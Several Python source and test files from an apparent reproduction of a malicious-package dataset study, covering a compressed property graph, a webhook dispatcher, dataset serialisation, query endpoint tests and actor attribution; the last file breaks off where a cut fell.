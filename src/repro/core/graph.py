"""Property graph (the paper's Neo4j substitute).

MALGRAPH stores one node per malicious package and typed edges for the
four relationships of Section III. Similar and co-existing relations are
complete subgraphs over large member sets (Table II counts 5.3M similar
edges over 6,320 nodes), so the graph stores *cliques* compactly — a
clique over ``n`` members contributes ``n * (n - 1)`` directed edges to
the counts without materialising them — alongside explicit pairwise
edges. Connected components treat both representations uniformly.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from enum import Enum
from typing import (
    Callable,
    Dict,
    FrozenSet,
    Iterable,
    List,
    Optional,
    Sequence,
    Set,
    Tuple,
)

from repro.errors import GraphError, NodeNotFoundError


class EdgeType(str, Enum):
    """The four relationships of Section III-A."""

    DUPLICATED = "duplicated"
    DEPENDENCY = "dependency"
    SIMILAR = "similar"
    COEXISTING = "coexisting"


@dataclass
class GraphStats:
    """Table II row: one edge type's subgraph statistics."""

    edge_type: EdgeType
    nodes: int
    directed_edges: int
    avg_out_degree: float
    avg_in_degree: float


class _UnionFind:
    """Weighted quick-union with path compression."""

    def __init__(self) -> None:
        self._parent: Dict[str, str] = {}
        self._size: Dict[str, int] = {}

    def add(self, item: str) -> None:
        if item not in self._parent:
            self._parent[item] = item
            self._size[item] = 1

    def find(self, item: str) -> str:
        root = item
        while self._parent[root] != root:
            root = self._parent[root]
        while self._parent[item] != root:
            self._parent[item], item = root, self._parent[item]
        return root

    def union(self, a: str, b: str) -> None:
        self.add(a)
        self.add(b)
        ra, rb = self.find(a), self.find(b)
        if ra == rb:
            return
        if self._size[ra] < self._size[rb]:
            ra, rb = rb, ra
        self._parent[rb] = ra
        self._size[ra] += self._size[rb]

    def groups(self) -> List[Set[str]]:
        clusters: Dict[str, Set[str]] = {}
        for item in self._parent:
            clusters.setdefault(self.find(item), set()).add(item)
        return list(clusters.values())


class PropertyGraph:
    """Typed multigraph over string node ids with clique compression."""

    def __init__(self) -> None:
        #: bumped on every mutation; cached views (e.g. the query layer's
        #: adjacency indexes) key their validity on it
        self._version = 0
        self._nodes: Dict[str, Dict] = {}
        self._edges: Dict[EdgeType, Set[Tuple[str, str]]] = {
            t: set() for t in EdgeType
        }
        # adjacency over pairwise edges only (cliques are resolved via
        # membership lists); keeps neighbors()/has_edge() O(degree)
        self._adjacency: Dict[EdgeType, Dict[str, Set[str]]] = {
            t: {} for t in EdgeType
        }
        # clique slots are tombstoned to None on removal so indices held
        # by incremental maintainers stay stable
        self._cliques: Dict[EdgeType, List[Optional[FrozenSet[str]]]] = {
            t: [] for t in EdgeType
        }
        self._clique_membership: Dict[EdgeType, Dict[str, List[int]]] = {
            t: {} for t in EdgeType
        }

    @property
    def version(self) -> int:
        """Mutation counter (monotonic; bumped by every mutator)."""
        return self._version

    def touch(self) -> int:
        """Bump the mutation counter without a structural change.

        Used when graph-adjacent state the cached views read through the
        graph (e.g. the dataset entries behind the enriched query
        indexes) changes, so a stale index can never be served.
        """
        self._version += 1
        return self._version

    # -- nodes ------------------------------------------------------------
    def add_node(self, node_id: str, **attrs) -> None:
        """Add or update a node; attributes merge."""
        self._version += 1
        self._nodes.setdefault(node_id, {}).update(attrs)

    def remove_node(self, node_id: str) -> None:
        """Remove a node and its incident pairwise edges.

        The node must not belong to any live clique: cliques encode
        group semantics the caller owns (shrinking one implicitly would
        silently change every co-member), so the delta paths replace the
        affected cliques first and only then drop the node.
        """
        self._require(node_id)
        for edge_type in EdgeType:
            if self._clique_membership[edge_type].get(node_id):
                raise GraphError(
                    f"cannot remove {node_id!r}: still a member of "
                    f"{edge_type.value} cliques"
                )
        self._version += 1
        for edge_type in EdgeType:
            for other in list(self._adjacency[edge_type].get(node_id, ())):
                self._remove_pairwise(node_id, other, edge_type)
            self._adjacency[edge_type].pop(node_id, None)
            self._clique_membership[edge_type].pop(node_id, None)
        del self._nodes[node_id]

    def has_node(self, node_id: str) -> bool:
        return node_id in self._nodes

    def node(self, node_id: str) -> Dict:
        try:
            return self._nodes[node_id]
        except KeyError:
            raise NodeNotFoundError(f"unknown node {node_id!r}") from None

    def nodes(self) -> Iterable[str]:
        return self._nodes.keys()

    @property
    def node_count(self) -> int:
        return len(self._nodes)

    def _require(self, node_id: str) -> None:
        if node_id not in self._nodes:
            raise NodeNotFoundError(f"unknown node {node_id!r}")

    # -- edges ------------------------------------------------------------
    def add_edge(self, u: str, v: str, edge_type: EdgeType) -> None:
        """Add an undirected pairwise edge of the given type."""
        self._require(u)
        self._require(v)
        if u == v:
            raise GraphError(f"self-loop on {u!r} is not allowed")
        self._version += 1
        key = (u, v) if u <= v else (v, u)
        self._edges[edge_type].add(key)
        self._adjacency[edge_type].setdefault(u, set()).add(v)
        self._adjacency[edge_type].setdefault(v, set()).add(u)

    def _remove_pairwise(self, u: str, v: str, edge_type: EdgeType) -> None:
        """Drop one pairwise edge from the edge set and both adjacencies."""
        key = (u, v) if u <= v else (v, u)
        self._edges[edge_type].discard(key)
        for a, b in ((u, v), (v, u)):
            bucket = self._adjacency[edge_type].get(a)
            if bucket is not None:
                bucket.discard(b)
                if not bucket:
                    del self._adjacency[edge_type][a]

    def remove_edge(self, u: str, v: str, edge_type: EdgeType) -> None:
        """Remove an undirected pairwise edge of the given type."""
        key = (u, v) if u <= v else (v, u)
        if key not in self._edges[edge_type]:
            raise GraphError(
                f"no {edge_type.value} edge between {u!r} and {v!r}"
            )
        self._version += 1
        self._remove_pairwise(u, v, edge_type)

    def add_clique(self, members: Sequence[str], edge_type: EdgeType) -> Optional[int]:
        """Add a complete subgraph over ``members`` (stored compactly).

        Returns the clique's index (stable for the graph's lifetime —
        removals tombstone rather than reindex), or ``None`` when fewer
        than two unique members were given.
        """
        unique = sorted(set(members))
        if len(unique) < 2:
            return None
        for member in unique:
            self._require(member)
        self._version += 1
        index = len(self._cliques[edge_type])
        self._cliques[edge_type].append(frozenset(unique))
        for member in unique:
            self._clique_membership[edge_type].setdefault(member, []).append(index)
        return index

    def remove_clique_at(self, edge_type: EdgeType, index: int) -> FrozenSet[str]:
        """Tombstone one clique by index, returning its members.

        Indices of other cliques are unchanged (the slot is set to
        ``None`` rather than compacted), so handles held by incremental
        maintainers stay valid.
        """
        try:
            members = self._cliques[edge_type][index]
        except IndexError:
            members = None
        if members is None:
            raise GraphError(
                f"no live {edge_type.value} clique at index {index}"
            )
        self._version += 1
        self._cliques[edge_type][index] = None
        for member in members:
            held = self._clique_membership[edge_type].get(member)
            if held is not None:
                held.remove(index)
                if not held:
                    del self._clique_membership[edge_type][member]
        return members

    def cliques(self, edge_type: EdgeType) -> List[FrozenSet[str]]:
        """The live cliques of one edge type (tombstones skipped)."""
        return [c for c in self._cliques[edge_type] if c is not None]

    def live_cliques(self, edge_type: EdgeType) -> List[Tuple[int, FrozenSet[str]]]:
        """(stable index, members) for every live clique of one type."""
        return [
            (index, members)
            for index, members in enumerate(self._cliques[edge_type])
            if members is not None
        ]

    def clique_at(self, edge_type: EdgeType, index: int) -> Optional[FrozenSet[str]]:
        """Members of the clique at ``index``, or None if tombstoned/unknown."""
        if 0 <= index < len(self._cliques[edge_type]):
            return self._cliques[edge_type][index]
        return None

    def has_edge(self, u: str, v: str, edge_type: EdgeType) -> bool:
        if v in self._adjacency[edge_type].get(u, ()):
            return True
        for idx in self._clique_membership[edge_type].get(u, ()):
            if v in self._cliques[edge_type][idx]:
                return True
        return False

    def neighbors(self, node_id: str, edge_type: EdgeType) -> Set[str]:
        """All nodes adjacent to ``node_id`` via ``edge_type``."""
        self._require(node_id)
        found: Set[str] = set(self._adjacency[edge_type].get(node_id, ()))
        for idx in self._clique_membership[edge_type].get(node_id, ()):
            found.update(self._cliques[edge_type][idx])
        found.discard(node_id)
        return found

    def incident_groups(
        self, node_id: str, edge_type: EdgeType
    ) -> Iterable[Tuple[Tuple[str, object], Iterable[str]]]:
        """The node's adjacency as keyed groups, for group-aware sweeps.

        Yields ``(key, members)`` pairs — one per live clique containing
        the node (key ``("c", clique_index)``) plus one for its pairwise
        neighbourhood (key ``("p", node_id)``). Keys are stable across
        calls, so a component sweep can expand each clique exactly once
        instead of re-scanning a k-member clique from all k of its
        members: the sweep becomes O(total memberships) rather than
        O(sum of clique sizes squared). ``members`` may include
        ``node_id`` itself and must not be mutated.
        """
        self._require(node_id)
        return self.incident_groups_fn(edge_type)(node_id)

    def incident_groups_fn(
        self, edge_type: EdgeType
    ) -> Callable[[str], List[Tuple[Tuple[str, object], Iterable[str]]]]:
        """Bound fast-path form of :meth:`incident_groups`.

        Component sweeps call ``incident`` once per visited node; binding
        the per-type tables once hoists the repeated enum-keyed lookups
        (and the membership check — sweep nodes are known to exist) out
        of the hot loop. The returned callable reads the graph live: it
        reflects mutations made after it was built.
        """
        adjacency = self._adjacency[edge_type]
        membership = self._clique_membership[edge_type]
        cliques = self._cliques[edge_type]

        def incident(node_id: str):
            out = []
            pairwise = adjacency.get(node_id)
            if pairwise:
                out.append((("p", node_id), pairwise))
            held = membership.get(node_id)
            if held:
                for index in held:
                    out.append((("c", index), cliques[index]))
            return out

        return incident

    def degree(self, node_id: str, edge_type: EdgeType) -> int:
        """Out-degree (= in-degree: relations are symmetric)."""
        return len(self.neighbors(node_id, edge_type))

    # -- counting -----------------------------------------------------------
    def touched_nodes(self, edge_type: EdgeType) -> Set[str]:
        """Nodes with at least one edge of this type."""
        nodes: Set[str] = set()
        for u, v in self._edges[edge_type]:
            nodes.add(u)
            nodes.add(v)
        for clique in self._cliques[edge_type]:
            if clique is not None:
                nodes.update(clique)
        return nodes

    def directed_edge_count(self, edge_type: EdgeType) -> int:
        """Edge count in Table II's convention (ordered pairs).

        Overlaps between cliques and explicit edges are rare by
        construction (each edge type uses one representation), but pairs
        present in both are not double-counted.
        """
        pair_count = 0
        seen_pairs: Set[Tuple[str, str]] = set(self._edges[edge_type])
        pair_count += len(seen_pairs)
        for clique in self._cliques[edge_type]:
            if clique is None:
                continue
            members = sorted(clique)
            for i, u in enumerate(members):
                for v in members[i + 1 :]:
                    if (u, v) not in seen_pairs:
                        seen_pairs.add((u, v))
                        pair_count += 1
        return 2 * pair_count

    def directed_edge_count_fast(self, edge_type: EdgeType) -> int:
        """O(#cliques) edge count assuming cliques are disjoint, which
        holds for the clustering-derived edge types (each node belongs to
        exactly one similarity cluster / duplicate set)."""
        total = 2 * len(self._edges[edge_type])
        for clique in self._cliques[edge_type]:
            if clique is None:
                continue
            n = len(clique)
            total += n * (n - 1)
        return total

    def stats(self, edge_type: EdgeType, exact: bool = False) -> GraphStats:
        """Table II row for one edge type."""
        nodes = self.touched_nodes(edge_type)
        edges = (
            self.directed_edge_count(edge_type)
            if exact
            else self.directed_edge_count_fast(edge_type)
        )
        # Relations are symmetric, so each node's out-degree equals its
        # in-degree and the directed-edge total divided by the node count
        # is exactly Table II's "Ave. OutDegree" column.
        avg = edges / len(nodes) if nodes else 0.0
        return GraphStats(
            edge_type=edge_type,
            nodes=len(nodes),
            directed_edges=edges,
            avg_out_degree=avg,
            avg_in_degree=avg,
        )

    # -- components -----------------------------------------------------------
    def connected_components(
        self, edge_types: Optional[Iterable[EdgeType]] = None
    ) -> List[Set[str]]:
        """Connected components over the chosen edge types.

        Only nodes touched by at least one such edge appear (isolated
        nodes form no group, matching the paper's subgraph semantics).
        """
        selected = list(edge_types) if edge_types is not None else list(EdgeType)
        uf = _UnionFind()
        for edge_type in selected:
            for u, v in self._edges[edge_type]:
                uf.union(u, v)
            for clique in self._cliques[edge_type]:
                if clique is None:
                    continue
                members = iter(sorted(clique))
                first = next(members)
                for other in members:
                    uf.union(first, other)
        return sorted(uf.groups(), key=lambda g: (-len(g), min(g)))

    # -- cloning ------------------------------------------------------------
    def copy(self) -> "PropertyGraph":
        """Structural deep copy (node attrs copied one level deep).

        Preserves clique slot order including tombstones, so clique
        indices recorded against the original remain valid against the
        copy — the delta engine relies on this to fork a base graph.
        """
        dup = PropertyGraph()
        dup._version = self._version
        dup._nodes = {node: dict(attrs) for node, attrs in self._nodes.items()}
        dup._edges = {t: set(pairs) for t, pairs in self._edges.items()}
        dup._adjacency = {
            t: {node: set(adj) for node, adj in per_type.items()}
            for t, per_type in self._adjacency.items()
        }
        dup._cliques = {t: list(cliques) for t, cliques in self._cliques.items()}
        dup._clique_membership = {
            t: {node: list(held) for node, held in per_type.items()}
            for t, per_type in self._clique_membership.items()
        }
        return dup

    # -- persistence --------------------------------------------------------
    def to_dict(self) -> dict:
        return {
            "nodes": {node: dict(attrs) for node, attrs in self._nodes.items()},
            "edges": {
                t.value: sorted(list(pair) for pair in pairs)
                for t, pairs in self._edges.items()
            },
            "cliques": {
                t.value: [sorted(c) for c in cliques if c is not None]
                for t, cliques in self._cliques.items()
            },
        }

    @classmethod
    def from_dict(cls, raw: dict) -> "PropertyGraph":
        graph = cls()
        for node, attrs in raw.get("nodes", {}).items():
            graph.add_node(node, **attrs)
        for type_name, pairs in raw.get("edges", {}).items():
            edge_type = EdgeType(type_name)
            for u, v in pairs:
                graph.add_edge(u, v, edge_type)
        for type_name, cliques in raw.get("cliques", {}).items():
            edge_type = EdgeType(type_name)
            for members in cliques:
                graph.add_clique(members, edge_type)
        return graph

    def dumps(self) -> str:
        return json.dumps(self.to_dict(), sort_keys=True)

    @classmethod
    def loads(cls, payload: str) -> "PropertyGraph":
        return cls.from_dict(json.loads(payload))