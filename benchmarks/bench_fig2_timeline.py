"""Fig. 2 — the release timeline of the collected malicious packages.

Regenerates the monthly release histogram over the 2018-2024 study
window. Paper shape: the dataset covers an extended period with activity
in every study year (so the analysis is stable with time).
"""

from __future__ import annotations

from repro.ecosystem.clock import day_to_year


def test_fig2_timeline(benchmark, artifacts, show):
    timeline = benchmark(artifacts.fig2_timeline)
    show("Fig. 2: release timeline of the malicious packages",
         timeline.render())

    yearly = timeline.yearly_totals()
    years = sorted(yearly)
    assert years[0] <= 2019 and years[-1] >= 2023, (
        "releases should span the multi-year study window"
    )
    active_years = [y for y, n in yearly.items() if n > 0]
    assert len(active_years) >= 5, "activity in (almost) every study year"
    assert sum(timeline.counts) == len(artifacts.dataset.entries)
