"""Webhook push for new detections, with retry/backoff and a dead-letter book.

When a refresh publishes an index generation containing packages the
previous generation did not know, the service pushes a ``new-detections``
event to the configured webhook URL. Delivery is the unreliable half of
the export story, so the dispatcher owns it end to end:

* events queue onto a background worker — :meth:`notify` never blocks
  the refresh path on a slow subscriber;
* each delivery retries up to ``max_retries`` times with exponential
  backoff (the sleep is injectable, so tests run at full speed);
* an event that exhausts its budget lands in the bounded **dead-letter
  book** with the final error and attempt count — visible in
  ``/v1/metrics`` under ``webhooks`` and replayable via
  :meth:`redeliver_dead`;
* the books are exact: ``enqueued == delivered + dead_lettered +
  pending``.

The transport is a plain callable ``(url, payload) -> None`` that raises
on failure; the default posts JSON over stdlib ``urllib``. Tests inject
a fake — no network, no new dependencies.
"""

from __future__ import annotations

import json
import queue
import threading
import time
from collections import deque
from typing import Callable, Dict, List, Optional

DEFAULT_MAX_RETRIES = 3
DEFAULT_BACKOFF = 0.5
DEFAULT_BACKOFF_FACTOR = 2.0
DEFAULT_DEAD_LETTER_CAPACITY = 256


def http_transport(url: str, payload: Dict) -> None:
    """POST ``payload`` as JSON to ``url``; raises on non-2xx/transport
    failure. Only imported into a request when actually used."""
    import urllib.request

    body = json.dumps(payload).encode("utf-8")
    request = urllib.request.Request(
        url,
        data=body,
        headers={"Content-Type": "application/json"},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        status = getattr(response, "status", 200)
        if status >= 300:
            raise OSError(f"webhook answered HTTP {status}")


class WebhookDispatcher:
    """Queued, retrying delivery of detection events to one URL."""

    def __init__(
        self,
        url: str,
        transport: Optional[Callable[[str, Dict], None]] = None,
        max_retries: int = DEFAULT_MAX_RETRIES,
        backoff: float = DEFAULT_BACKOFF,
        backoff_factor: float = DEFAULT_BACKOFF_FACTOR,
        dead_letter_capacity: int = DEFAULT_DEAD_LETTER_CAPACITY,
        sleep: Optional[Callable[[float], None]] = None,
    ):
        self.url = url
        self.transport = transport if transport is not None else http_transport
        self.max_retries = max_retries
        self.backoff = backoff
        self.backoff_factor = backoff_factor
        self.sleep = sleep if sleep is not None else time.sleep
        self.dead_letters: "deque[Dict]" = deque(maxlen=dead_letter_capacity)
        self.enqueued = 0
        self.delivered = 0
        self.retries = 0
        self.dead_lettered = 0
        self._queue: "queue.Queue[Dict]" = queue.Queue()
        self._lock = threading.Lock()
        self._worker: Optional[threading.Thread] = None
        self._closed = False

    # -- producing ---------------------------------------------------------
    def notify(self, items: List[Dict], generation: int) -> None:
        """Queue one ``new-detections`` event (non-blocking)."""
        if not items:
            return
        event = {
            "event": "new-detections",
            "generation": generation,
            "count": len(items),
            "items": list(items),
        }
        with self._lock:
            if self._closed:
                raise RuntimeError("dispatcher is closed")
            self.enqueued += 1
            self._queue.put(event)
            self._ensure_worker()

    def redeliver_dead(self) -> int:
        """Re-queue every dead-lettered event; returns how many."""
        moved = 0
        with self._lock:
            while self.dead_letters:
                entry = self.dead_letters.popleft()
                self.enqueued += 1
                self._queue.put(entry["event"])
                moved += 1
            if moved:
                self._ensure_worker()
        return moved

    # -- delivering --------------------------------------------------------
    def _ensure_worker(self) -> None:
        if self._worker is None or not self._worker.is_alive():
            self._worker = threading.Thread(
                target=self._drain, name="webhook-dispatcher", daemon=True
            )
            self._worker.start()

    def _drain(self) -> None:
        # The worker is persistent once started (daemon, blocking get):
        # a timeout-and-exit worker could die between an enqueue and the
        # liveness check, stranding the event. A None sentinel stops it.
        while True:
            event = self._queue.get()
            if event is None:
                self._queue.task_done()
                return
            try:
                self._deliver(event)
            finally:
                self._queue.task_done()

    def _deliver(self, event: Dict) -> None:
        delay = self.backoff
        failure: Optional[BaseException] = None
        for attempt in range(1, self.max_retries + 2):
            try:
                self.transport(self.url, event)
            except Exception as caught:  # noqa: BLE001 - delivery boundary
                failure = caught
                if attempt <= self.max_retries:
                    with self._lock:
                        self.retries += 1
                    self.sleep(delay)
                    delay *= self.backoff_factor
                continue
            with self._lock:
                self.delivered += 1
            return
        with self._lock:
            self.dead_lettered += 1
            self.dead_letters.append(
                {
                    "event": event,
                    "error": f"{type(failure).__name__}: {failure}",
                    "attempts": self.max_retries + 1,
                }
            )

    def flush(self, timeout: float = 10.0) -> bool:
        """Wait until every queued event has been settled (tests/CLI).

        Returns False if the queue did not drain within ``timeout``.
        """
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self._queue.unfinished_tasks == 0:
                return True
            time.sleep(0.005)
        return self._queue.unfinished_tasks == 0

    def close(self) -> None:
        """Stop accepting events (the worker drains what is queued)."""
        with self._lock:
            if self._closed:
                return
            self._closed = True
            if self._worker is not None and self._worker.is_alive():
                self._queue.put(None)

    # -- books -------------------------------------------------------------
    def stats(self) -> Dict:
        """Exact delivery books for the ``webhooks`` metrics section."""
        with self._lock:
            return {
                "url": self.url,
                "enqueued": self.enqueued,
                "delivered": self.delivered,
                "retries": self.retries,
                "dead_lettered": self.dead_lettered,
                "dead_letter_size": len(self.dead_letters),
                "pending": self.enqueued - self.delivered - self.dead_lettered,
            }
