"""Dataset save/load round-trips."""

from __future__ import annotations

import pytest

from repro.io.datasets import (
    entry_from_dict,
    entry_to_dict,
    load_dataset,
    report_from_dict,
    report_to_dict,
    save_dataset,
)

from tests.core.helpers import dataset, entry, report


def _sample_dataset():
    a = entry("alpha", sources=("snyk", "phylum"), downloads=7, campaign_id="c1")
    b = entry("beta", code=None, release_day=33)
    return dataset([a, b], [report("r1", [a.package, b.package])])


def test_entry_roundtrip_with_artifact():
    original = _sample_dataset().entries[0]
    restored = entry_from_dict(entry_to_dict(original))
    assert restored.package == original.package
    assert restored.sha256() == original.sha256()
    assert restored.downloads == original.downloads
    assert restored.campaign_id == original.campaign_id
    assert [c.source for c in restored.claims] == [
        c.source for c in original.claims
    ]
    assert restored.artifact.files == original.artifact.files


def test_entry_roundtrip_without_artifact():
    original = _sample_dataset().entries[1]
    restored = entry_from_dict(entry_to_dict(original))
    assert not restored.available
    assert restored.release_day == 33


def test_entry_to_dict_can_exclude_artifact():
    original = _sample_dataset().entries[0]
    record = entry_to_dict(original, include_artifact=False)
    assert "artifact" not in record
    assert record["sha256"] == original.sha256()  # hash survives regardless


def test_report_roundtrip():
    original = _sample_dataset().reports[0]
    original.unresolved.append(("ghost", "1.0"))
    restored = report_from_dict(report_to_dict(original))
    assert restored.report_id == original.report_id
    assert restored.packages == original.packages
    assert restored.unresolved == original.unresolved
    assert restored.category == original.category


def test_save_load_directory(tmp_path):
    ds = _sample_dataset()
    target = save_dataset(ds, tmp_path / "out")
    assert (target / "entries.jsonl").exists()
    assert (target / "reports.jsonl").exists()
    loaded = load_dataset(target)
    assert len(loaded) == len(ds)
    assert [e.package for e in loaded] == [e.package for e in ds]
    assert loaded.entries[0].sha256() == ds.entries[0].sha256()
    assert len(loaded.reports) == 1


def test_save_load_world_slice(tmp_path, small_dataset):
    """Round-trip a real collected dataset and verify the analyses see
    the same facts."""
    from repro.analysis import compute_source_inventory

    save_dataset(small_dataset, tmp_path / "world")
    loaded = load_dataset(tmp_path / "world")
    before = compute_source_inventory(small_dataset)
    after = compute_source_inventory(loaded)
    assert [(r.source, r.available, r.unavailable) for r in before.rows] == [
        (r.source, r.available, r.unavailable) for r in after.rows
    ]


def test_save_without_artifacts_halves_size(tmp_path, small_dataset):
    full = save_dataset(small_dataset, tmp_path / "full", include_artifacts=True)
    slim = save_dataset(small_dataset, tmp_path / "slim", include_artifacts=False)
    full_size = (full / "entries.jsonl").stat().st_size
    slim_size = (slim / "entries.jsonl").stat().st_size
    assert slim_size < full_size
    loaded = load_dataset(slim)
    assert all(not e.available for e in loaded)
