"""POST /v1/query: validation, success payloads, metrics, and parity
with the Python API surface."""

from __future__ import annotations

import json
import threading
import urllib.error
import urllib.request

import pytest

from repro.core.query import QueryEngine
from repro.service.cache import EnrichmentService, build_service
from repro.service.server import create_server, server_address


@pytest.fixture(scope="module")
def query_service(service_malgraph):
    return build_service(service_malgraph, capacity=256)


@pytest.fixture(scope="module")
def live(query_service):
    server = create_server(query_service, port=0, max_query_length=200)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://{host}:{port}", query_service
    server.shutdown()
    server.server_close()


def _post(url: str, payload):
    data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
    request = urllib.request.Request(
        url, data=data, headers={"Content-Type": "application/json"}
    )
    with urllib.request.urlopen(request, timeout=10) as response:
        return response.status, json.load(response)


def _post_error(url: str, payload):
    with pytest.raises(urllib.error.HTTPError) as failure:
        _post(url, payload)
    body = json.loads(failure.value.read().decode())
    return failure.value.code, body


def _get(url: str):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, json.load(response)


# ---------------------------------------------------------------------------
# Success path
# ---------------------------------------------------------------------------

def test_query_roundtrip_matches_python_api(live):
    base, service = live
    pattern = "MATCH (a)-[similar]-(b) RETURN a.name, b.name LIMIT 10"
    status, body = _post(f"{base}/v1/query", {"pattern": pattern})
    assert status == 200
    expected = service.query_engine.run(pattern)
    assert body["columns"] == list(expected.columns)
    assert [tuple(r) for r in body["rows"]] == list(expected.rows)
    assert body["row_count"] == expected.row_count
    assert body["elapsed_ms"] >= 0
    assert "plan" in body


def test_call_procedure_over_http(live):
    base, service = live
    indexes = service.query_engine.indexes()
    node = indexes.nodes[0]
    pattern = f"CALL neighborhood('{node}', 2)"
    status, body = _post(f"{base}/v1/query", {"pattern": pattern})
    assert status == 200
    assert body["columns"] == ["node", "distance"]
    assert [tuple(r) for r in body["rows"]] == service.query_engine.neighborhood(
        node, 2
    )


# ---------------------------------------------------------------------------
# Validation 400s
# ---------------------------------------------------------------------------

def test_invalid_json_body(live):
    base, _ = live
    code, body = _post_error(f"{base}/v1/query", b"{not json")
    assert code == 400
    assert "JSON" in body["error"]


def test_non_dict_body(live):
    base, _ = live
    code, body = _post_error(f"{base}/v1/query", ["MATCH (a) RETURN a"])
    assert code == 400
    assert "pattern" in body["error"]


def test_missing_pattern(live):
    base, _ = live
    code, body = _post_error(f"{base}/v1/query", {"query": "MATCH (a) RETURN a"})
    assert code == 400
    assert "non-empty string" in body["error"]


def test_non_string_pattern(live):
    base, _ = live
    code, body = _post_error(f"{base}/v1/query", {"pattern": 42})
    assert code == 400
    assert "non-empty string" in body["error"]


def test_pattern_over_length_cap(live):
    base, _ = live
    long_pattern = "MATCH (a) WHERE " + "a.x = 1 AND " * 40 + "a.y = 2 RETURN a"
    assert len(long_pattern) > 200
    code, body = _post_error(f"{base}/v1/query", {"pattern": long_pattern})
    assert code == 400
    assert "longer than 200" in body["error"]


def test_syntax_error_is_structured_400_with_offset(live):
    base, _ = live
    pattern = "MATCH (a) RETURN a WHERE"
    code, body = _post_error(f"{base}/v1/query", {"pattern": pattern})
    assert code == 400
    assert body["offset"] == pattern.index("WHERE")
    assert "^" in body["detail"]  # caret-rendered message


def test_semantic_error_is_400(live):
    base, _ = live
    code, body = _post_error(
        f"{base}/v1/query", {"pattern": "MATCH (a) RETURN b"}
    )
    assert code == 400
    assert "unbound" in body["error"]


def test_service_without_engine_is_503(engine):
    service = EnrichmentService(engine, capacity=16)  # no query_engine
    server = create_server(service, port=0)
    host, port = server_address(server)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        code, body = _post_error(
            f"http://{host}:{port}/v1/query", {"pattern": "MATCH (a) RETURN a"}
        )
        assert code == 503
        assert "not configured" in body["error"]
    finally:
        server.shutdown()
        server.server_close()


# ---------------------------------------------------------------------------
# Metrics
# ---------------------------------------------------------------------------

def test_query_endpoint_metrics_label_and_rows(live):
    base, service = live
    pattern = "MATCH (a)-[similar]-(b) RETURN a LIMIT 3"
    _status, body = _post(f"{base}/v1/query", {"pattern": pattern})
    returned = body["row_count"]
    _status, metrics = _get(f"{base}/v1/metrics")
    row = metrics["endpoints"]["/v1/query"]
    assert row["requests"] >= 1
    assert row["status"].get("200", 0) >= 1
    assert row["latency"]["count"] == row["requests"]
    assert row["rows_returned"] >= returned
