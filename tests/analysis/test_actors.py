"""Actor attribution from security reports."""

from __future__ import annotations

import pytest

from repro.analysis.actors import compute_actor_attribution
from repro.crawler.extract import extract_actor_alias

from tests.core.helpers import dataset, entry, report


def _aliased_report(report_id, packages, alias, publish_day=20):
    rep = report(report_id, packages, publish_day=publish_day)
    rep.actor_alias = alias
    return rep


def test_extract_actor_alias_from_prose():
    text = (
        "We attribute this activity to the actor Lolip0p01 based on "
        "shared infrastructure and code reuse."
    )
    assert extract_actor_alias(text) == "Lolip0p01"


def test_extract_actor_alias_filters_unknown():
    assert extract_actor_alias("attributed to the actor unknown based on") is None
    assert extract_actor_alias("no attribution sentence here") is None


def test_attribution_groups_by_alias():
    a = entry("a", campaign_id="c1", release_day=10)
    a.actor = "actor-0001"
    b = entry("b", code="B = 1\n", campaign_id="c1", release_day=30)
    b.actor = "actor-0001"
    c = entry("c", code="C = 1\n", campaign_id="c2", release_day=20)
    c.actor = "actor-0002"
    ds = dataset(
        [a, b, c],
        [
            _aliased_report("r1", [a.package], "RedFox01"),
            _aliased_report("r2", [b.package], "RedFox01", publish_day=40),
            _aliased_report("r3", [c.package], "BluOwl02"),
        ],
    )
    attribution = compute_actor_attribution(ds)
    assert len(attribution.profiles) == 2
    fox = attribution.profile("RedFox01")
    assert fox.size == 2
    assert fox.reports == 2
    assert fox.first_day == 10
    assert fox.last_day == 30
    assert fox.true_actor == "actor-0001"
    assert fox.purity == 1.0
    assert attribution.attributed_packages == 3
    assert attribution.coverage == 1.0


def test_attribution_detects_impure_alias():
    a = entry("a", release_day=1)
    a.actor = "actor-0001"
    b = entry("b", code="B = 1\n", release_day=2)
    b.actor = "actor-0002"
    ds = dataset(
        [a, b], [_aliased_report("r1", [a.package, b.package], "MixedBag")]
    )
    attribution = compute_actor_attribution(ds)
    assert attribution.profile("MixedBag").purity == 0.5


def test_attribution_skips_unaliased_reports():
    a = entry("a")
    ds = dataset([a], [report("r1", [a.package])])
    attribution = compute_actor_attribution(ds)
    assert attribution.profiles == []
    assert attribution.coverage == 0.0
    assert attribution.mean_purity == 0.0


def test_attribution_render():
    a = entry("a", release_day=1)
    a.actor = "actor-0001"
    ds = dataset([a], [_aliased_report("r1", [a.package], "SoloAct")])
    out = compute_actor_attribution(ds).render()
    assert "Actor attribution" in out
    assert "SoloAct" in out


# -- against the simulated world -------------------------------------------------

def test_world_aliases_are_pure(paper):
    """The crawler-recovered aliases map 1:1 onto true actors — reports
    really do carry the campaign context (lesson 4)."""
    attribution = compute_actor_attribution(paper.dataset)
    assert len(attribution.profiles) > 5
    assert attribution.mean_purity > 0.95
    assert 0.05 < attribution.coverage < 0.9


def test_world_aliases_round_trip_report_factory(paper):
    """Every recovered alias was minted by the report factory."""
    factory_aliases = {
        r.actor_alias for r in paper.world.reports.reports if r.actor_alias
    }
    attribution = compute_actor_attribution(paper.dataset)
    for profile in attribution.profiles:
        assert profile.alias in factory_aliases
