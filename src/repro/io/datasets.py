"""Save / load collected datasets.

The paper publishes its dataset (names, versions, hashes, group labels)
through a repository; this module serialises a collected
:class:`MalwareDataset` the same way — entries (with artifacts inlined
when available) and reports — to a pair of JSONL files.
"""

from __future__ import annotations

from pathlib import Path
from typing import List, Optional, Union

from repro.collection.mirrorsearch import MissCause, RecoveryStats
from repro.collection.records import (
    CollectedReport,
    DatasetEntry,
    MalwareDataset,
    SourceClaim,
)
from repro.crawler.spider import CrawlStats
from repro.ecosystem.package import PackageArtifact, PackageId
from repro.io.jsonl import read_jsonl, write_jsonl

PathLike = Union[str, Path]


def entry_to_dict(entry: DatasetEntry, include_artifact: bool = True) -> dict:
    record = {
